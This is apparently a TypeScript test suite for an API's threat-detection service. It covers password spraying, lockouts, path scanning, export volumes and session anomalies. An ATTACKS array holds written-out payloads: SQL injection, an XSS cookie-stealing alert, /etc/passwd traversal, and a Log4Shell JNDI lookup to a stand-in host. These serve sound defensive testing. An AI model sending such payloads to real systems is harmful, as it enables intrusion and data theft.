import { randomUUID } from 'node:crypto';
import { get } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'chai';
import { openApiServices } from '../../src/api/open-services.ts';
import { openRequestThreats, type RequestThreats } from '../../src/api/request-threats.ts';
import { createServer } from '../../src/api/server.ts';
import { CONFIG_FOLDER } from '../../src/config/project.ts';
import { setAlertStatus } from '../../src/db/alerts.ts';
import { inTenant } from '../../src/db/database.ts';
import { requestThreatSettings } from '../../src/domain/access/request-threats/settings.ts';
import { readJsonFile } from '../../src/infra/json-file.ts';
import { openLog } from '../../src/infra/log.ts';
import { PASSWORD, type Person, useApi } from '../support/api.ts';
import { asOwner } from '../support/database.ts';
import { makeTenant } from '../support/tenant.ts';
import { quietLog } from '../support/workers.ts';

interface Alert {
  id: string;
  detection: string;
  fingerprint: string;
  severity: string;
  occurrences: number;
  evidence: { signals: { signal: string; count: number }[] };
  client: string | null;
}

const ATTACKS = [
  "GET /?id=1' UNION SELECT password FROM users-- HTTP/1.1",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  '$'.concat('{jndi:ldap://198.51.100.7/a}'),
  "'; drop table flows; --",
];

describe('requests as an attacker makes them', function () {
  this.timeout(60_000);
  const api = useApi();
  let analyst: Person;

  /** The alerts of detections on requests, as the analyst reads them. */
  const alerts = async (): Promise<Alert[]> => {
    await api().services.threats.flush();
    const { body } = await api().call('GET', '/api/v1/security/alerts?limit=200', { token: analyst.access_token });
    return body.items;
  };
  const about = async (detection: string, fingerprint?: string) =>
    (await alerts()).filter(
      (alert) => alert.detection === detection && (!fingerprint || alert.fingerprint === fingerprint),
    );
  const forget = () =>
    asOwner(
      api().db.ownerUrl,
      'truncate request_signals, accounts_tried, export_volumes, session_networks, security_alerts, alert_events',
    );
  const failedLogin = (email: string, base = api().url) =>
    fetch(`${base}/api/v1/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email, password: 'wrong password here' }),
    });

  before(async () => {
    analyst = await api().person('security_analyst');
  });
  beforeEach(async () => {
    await api().services.threats.flush();
    await forget();
  });

  it('raise one alert that grows when one source tries many accounts (L5), on record', async () => {
    for (let turn = 0; turn < 20; turn += 1) await failedLogin(`spray-${turn}@bank.example`);
    const [first] = await about('password-spraying');
    expect(first).to.include({ severity: 'high', client: '127.0.0.1', fingerprint: 'source:127.0.0.1' });
    expect(first?.evidence.signals[0]?.signal).to.equal('another-account');
    for (let turn = 20; turn < 75; turn += 1) await failedLogin(`spray-${turn}@bank.example`);
    const grown = await about('password-spraying');
    expect(grown).to.have.length(1);
    expect(grown[0]).to.include({ id: first?.id, severity: 'critical' });
    expect(grown[0]?.occurrences).to.be.greaterThan(1);
    expect(await about('sign-in-failures')).to.have.length(1);
    const events = await asOwner(
      api().db.ownerUrl,
      `select target from audit_log where action = 'activity.suspicious' and details->>'detection' = 'password-spraying'`,
    );
    expect(events).to.deep.equal([{ target: first?.id }]);
  });

  it('count one account once, however often it is tried', async () => {
    for (let turn = 0; turn < 40; turn += 1) await failedLogin('the-same@bank.example');
    expect(await about('password-spraying')).to.deep.equal([]);
    const [row] = await asOwner<{ value: number }>(
      api().db.ownerUrl,
      `select value from request_signals where subject_kind = 'source' and signal = 'another-account'`,
    );
    expect(row?.value).to.equal(1);
  });

  it('raise an alarm when many accounts are locked, real or not (L4)', async () => {
    for (let account = 0; account < 6; account += 1) {
      for (let turn = 0; turn < 5; turn += 1) await failedLogin(`wave-${account}@bank.example`);
    }
    expect(await about('lockout-wave')).to.have.length(1);
  });

  it('raise an alert about a user who tries what is forbidden, and keep a false positive one', async () => {
    const person = await api().person('readonly_user');
    const probe = async (times: number) => {
      for (let turn = 0; turn < times; turn += 1)
        await api().call('GET', '/api/v1/users', { token: person.access_token });
    };
    await probe(10);
    expect(await about('suspicious-requests-user')).to.deep.equal([]);
    await probe(15);
    const [alert] = await about('suspicious-requests-user', `user:${person.id}`);
    expect(alert?.severity).to.equal('medium');
    expect(alert?.evidence.signals[0]).to.include({ signal: 'access-denied' });
    const { tenantId } = api();
    await inTenant(api().db.database.app, tenantId, (transaction) =>
      setAlertStatus(transaction, alert?.id ?? '', 'false-positive'),
    );
    await probe(60);
    const after = await about('suspicious-requests-user', `user:${person.id}`);
    expect(after.map((each) => (each as unknown as { status: string }).status)).to.deep.equal(['false-positive']);
  });

  it('raise an alert about a source that looks for paths', async () => {
    // An address of its own: that of the tests before has raised its alert a moment ago.
    const ask = (path: string) =>
      new Promise<void>((resolve, reject) => {
        const options = {
          host: '127.0.0.1',
          port: new URL(api().url).port,
          path,
          localAddress: '127.0.0.8',
          agent: false,
        };
        get(options, (response) => response.resume().once('end', resolve)).once('error', reject);
      });
    for (let turn = 0; turn < 15; turn += 1) {
      for (const path of ['/.git/config', '/wp-login.php', `/admin-${turn}`]) await ask(path);
    }
    const [alert] = await about('suspicious-requests-source', 'source:127.0.0.8');
    expect(alert?.evidence.signals.map(({ signal }) => signal)).to.include.members([
      'unknown-path',
      'injection-signature',
    ]);
    const rows = await asOwner(api().db.ownerUrl, 'select evidence::text || description as text from security_alerts');
    expect(JSON.stringify(rows)).not.to.contain('wp-login');
  });

  it('raise nothing for a log full of attack strings: file content is data', async () => {
    const engineer = await api().person('network_engineer');
    const header = 'time,src_ip,src_port,dst_ip,dst_port,protocol,bytes_sent,bytes_received,action,application\n';
    for (let file = 0; file < 10; file += 1) {
      const lines = Array.from(
        { length: 1_000 },
        (_, n) =>
          `2026-03-01T10:00:00Z,10.0.${file}.1,${n + 1},192.0.2.1,443,tcp,1,2,allow,"${ATTACKS[n % 5]?.replaceAll('"', '""')}"`,
      );
      const form = new FormData();
      form.append('file', new Blob([header, lines.join('\n'), '\n']), `${ATTACKS[file % 5]}.csv`);
      const { status } = await api().call('POST', '/api/v1/files/upload', { token: engineer.access_token, raw: form });
      expect(status).to.equal(202);
    }
    expect(await alerts()).to.deep.equal([]);
    expect(await asOwner(api().db.ownerUrl, 'select signal from request_signals')).to.deep.equal([]);
  });

  it('raise an alert about a user whose uploads are refused again and again', async () => {
    const engineer = await api().person('network_engineer');
    for (let turn = 0; turn < 12; turn += 1) {
      const form = new FormData();
      form.append('file', new Blob([Buffer.alloc(2_000, turn)]), 'binary.bin');
      const { status } = await api().call('POST', '/api/v1/files/upload', { token: engineer.access_token, raw: form });
      expect(status).to.equal(422);
    }
    const [alert] = await about('suspicious-requests-user', `user:${engineer.id}`);
    expect(alert?.evidence.signals[0]).to.include({ signal: 'upload-refused' });
  });

  it('raise nothing for somebody who mistypes, in forms or in names', async () => {
    const engineer = await api().person('network_engineer');
    for (let turn = 0; turn < 30; turn += 1) {
      const { status } = await api().call('GET', `/api/v1/network/nodes?limit=${turn}x`, {
        token: engineer.access_token,
      });
      expect(status).to.equal(422);
    }
    expect(await alerts()).to.deep.equal([]);
  });

  it('never hold what was sent', async () => {
    const secret = `canary-${randomUUID()}`;
    const body = { email: `' or 1=1 ${secret}`, password: `${secret} <script>`, more: secret };
    for (let turn = 0; turn < 30; turn += 1) await api().call('POST', '/api/v1/auth/login', { body });
    await api().services.threats.flush();
    for (const table of ['request_signals', 'security_alerts', 'accounts_tried', 'audit_log']) {
      const rows = await asOwner(api().db.ownerUrl, `select t::text from ${table} t`);
      expect(JSON.stringify(rows), table).not.to.contain(secret);
    }
    const signals = await asOwner<{ signal: string }>(api().db.ownerUrl, 'select signal from request_signals');
    expect(signals.map(({ signal }) => signal)).to.include('injection-signature');
  });

  it('raise an alert when somebody takes out far more than usual', async () => {
    const { threats } = api().services;
    const user = { tenantId: api().tenantId, userId: analyst.id };
    const mebibyte = 1024 * 1024;
    threats.noteExport(user, 255 * mebibyte);
    expect(await about('unusual-export')).to.deep.equal([]);
    threats.noteExport(user, 10 * mebibyte);
    expect(await about('unusual-export', `user:${analyst.id}`)).to.have.length(1);
  });

  it('count as an export what was really sent as a file', async () => {
    const admin = await api().person('admin');
    await asOwner(
      api().db.ownerUrl,
      `insert into audit_log (tenant_id, action, target) select $1, 'job.submit', repeat('x', 1000) from generate_series(1, 2000)`,
      [api().tenantId],
    );
    const { text } = await api().call('GET', '/api/v1/audit/export', { token: admin.access_token });
    await api().services.threats.flush();
    const [row] = await asOwner<{ bytes: number }>(
      api().db.ownerUrl,
      'select bytes::float8 as bytes from export_volumes where user_id = $1',
      [admin.id],
    );
    expect(row?.bytes).to.be.at.least(text.length);
    expect(text.length).to.be.at.least(2_000_000);
  });

  it('raise an alert when a session is used from two networks in turn, not when it moves once', async () => {
    const { threats } = api().services;
    const session = { tenantId: api().tenantId, userId: analyst.id, sessionId: randomUUID() };
    const from = async (...ips: string[]) => {
      for (const ip of ips) {
        threats.noteSession(session, ip);
        await threats.flush();
      }
    };
    await from('192.0.2.1', '192.0.77.1', '198.51.100.1', '198.51.100.2');
    expect(await about('session-in-two-networks')).to.deep.equal([]);
    await from('192.0.2.1', '198.51.100.1', '192.0.2.1');
    expect(await about('session-in-two-networks', `user:${analyst.id}`)).to.have.length(1);
  });

  describe('over several processes', () => {
    it('are counted together', async () => {
      const log = openLog('error', 'replica');
      log.silent = true;
      // Two that remember nothing of the tests before.
      const replicas = await Promise.all(
        [1, 2].map(async () => {
          const opened = await openApiServices(api().services.config, log);
          const server = createServer(opened.services);
          await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
          return { opened, server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
        }),
      );
      // Ten each: neither would raise anything by itself.
      for (let turn = 0; turn < 20; turn += 1) {
        await failedLogin(`spread-${turn}@bank.example`, replicas[turn % 2]?.url);
      }
      for (const { opened } of replicas) await opened.services.threats.flush();
      expect(await about('password-spraying')).to.have.length(1);
      for (const { opened, server } of replicas) {
        server.closeAllConnections();
        await new Promise((resolve) => server.close(resolve));
        opened.stop();
        await opened.close();
      }
    });

    it('lose no signal when many add at once', async () => {
      const { database } = api().db;
      const settings = requestThreatSettings(await readJsonFile(CONFIG_FOLDER, 'request-threats.json'));
      const tenantId = await makeTenant(api().db.ownerUrl);
      const replicas: RequestThreats[] = Array.from({ length: 4 }, () =>
        openRequestThreats({ database, settings: { ...settings, half_life_seconds: 1e9 }, log: quietLog }),
      );
      const userId = randomUUID();
      await Promise.all(
        replicas.map(async (replica) => {
          for (let round = 0; round < 25; round += 1) {
            replica.note('access-denied', { tenantId, userId, ip: '203.0.113.9' });
            replica.note('unknown-id', { tenantId, userId, ip: '203.0.113.9' });
            await replica.flush();
          }
        }),
      );
      await Promise.all(replicas.map((replica) => replica.close()));
      const rows = await asOwner<{ signal: string; value: number }>(
        api().db.ownerUrl,
        'select signal, value from request_signals where tenant_id = $1 and subject = $2 order by signal',
        [tenantId, userId],
      );
      expect(rows.map(({ signal, value }) => [signal, Math.round(value * 1000) / 1000])).to.deep.equal([
        ['access-denied', 100],
        ['unknown-id', 100],
      ]);
      const found = await asOwner(api().db.ownerUrl, 'select detection from security_alerts where tenant_id = $1', [
        tenantId,
      ]);
      expect(found).to.deep.include({ detection: 'suspicious-requests-user' });
      expect(found.filter(({ detection }) => detection === 'suspicious-requests-user')).to.have.length(1);
    });
  });

  it('refuse nobody: whoever has a score is answered as before', async () => {
    const person = await api().person('readonly_user');
    for (let turn = 0; turn < 80; turn += 1) await api().call('GET', '/api/v1/users', { token: person.access_token });
    expect(await about('suspicious-requests-user', `user:${person.id}`)).to.have.length(1);
    expect((await api().call('GET', '/api/v1/network/nodes', { token: person.access_token })).status).to.equal(200);
    const again = await api().call('POST', '/api/v1/auth/login', { body: { email: person.email, password: PASSWORD } });
    expect(again.status).to.equal(200);
  });
});
